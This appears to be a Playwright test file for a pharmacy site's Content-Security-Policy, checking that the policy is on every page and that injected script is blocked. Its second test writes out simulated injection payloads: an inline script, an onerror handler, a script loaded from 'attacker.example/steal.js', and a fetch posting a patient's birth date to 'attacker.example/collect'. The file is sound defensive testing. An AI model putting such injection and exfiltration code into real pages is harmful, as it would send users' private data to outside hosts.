/**
 * The Content-Security-Policy as an attacker meets it (decision 012): every page
 * the site serves carries it, and script someone manages to slip into a page does
 * not run or send anything anywhere. That the policy lets the real app work is
 * checked by every other story (fixtures.ts fails any story with a violation).
 */
import { ROUTES } from '@pharmacy/shared';
import type { Page } from '@playwright/test';
import { collectPolicyViolations, expect, test } from './fixtures.ts';

test.use({ expectPolicyViolations: true });

const policyOf = (page: Page) => page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');

test('Every kind of page the site serves carries the policy, ahead of anything it governs', async ({ page }) => {
  // A prerendered public page, an article, the app shell of a portal screen, and the 404 page.
  for (const path of [ROUTES.home, ROUTES.blogArticle('veterinary-compounding'), ROUTES.practitioners, ROUTES.admin, '/no-such-page']) {
    const response = await page.request.get(path);
    const html = await response.text();
    const policy = /<meta http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(html);
    expect(policy?.[1], path).toContain("script-src 'self';");
    expect(policy?.[1], path).toContain("object-src 'none'");
    // Before anything it governs.
    const governed = html.search(/<(script|link|style|img|iframe)\b/);
    expect(policy?.index ?? Infinity, path).toBeLessThan(governed);
  }
  await page.goto(ROUTES.home);
  expect(await policyOf(page)).toContain("default-src 'self'");
});

test('Script injected into a page does not run, and cannot load code or send data to another site', async ({ page }) => {
  const violations = collectPolicyViolations(page);
  await page.goto(ROUTES.contact);
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();

  const outcome = await page.evaluate(async () => {
    const ran = () => (window as unknown as { injected?: boolean }).injected === true;
    // What an HTML-injection bug would let through: an inline script, an inline handler, and a foreign script.
    const inline = document.createElement('script');
    inline.textContent = 'window.injected = true;';
    document.body.append(inline);
    const handler = document.createElement('img');
    handler.setAttribute('src', 'data:,');
    handler.setAttribute('onerror', 'window.injected = true;');
    // Listeners run in the order they were added: once this one has run, the inline handler has had its turn.
    const handlerSettled = new Promise<void>((resolve) => {
      handler.addEventListener('error', () => resolve());
      handler.addEventListener('load', () => resolve());
    });
    document.body.append(handler);
    const foreign = document.createElement('script');
    foreign.src = 'https://attacker.example/steal.js';
    const foreignBlocked = new Promise<boolean>((resolve) => {
      foreign.onerror = () => resolve(true);
      foreign.onload = () => resolve(false);
    });
    document.body.append(foreign);
    // Sending a patient's details elsewhere with fetch is refused before any request is made.
    const exfiltration = await fetch('https://attacker.example/collect', { method: 'POST', body: 'dob=1980-01-01' }).then(
      () => 'sent',
      (error: unknown) => (error instanceof Error ? error.name : 'refused'),
    );
    await handlerSettled;
    // The page is left as it was (the fixture checks its accessibility at the end).
    for (const element of [inline, handler, foreign]) element.remove();
    return { ran: ran(), foreignBlocked: await foreignBlocked, exfiltration };
  });

  expect(outcome.ran).toBe(false);
  expect(outcome.foreignBlocked).toBe(true);
  expect(outcome.exfiltration).toBe('TypeError');
  await expect.poll(() => violations.length).toBeGreaterThanOrEqual(4);
  expect(violations.join('\n')).toMatch(/inline script/i);
  expect(violations.join('\n')).toMatch(/attacker\.example\/steal\.js/);
  expect(violations.join('\n')).toMatch(/connect(ing)? to 'https:\/\/attacker\.example\/collect'/i);
});
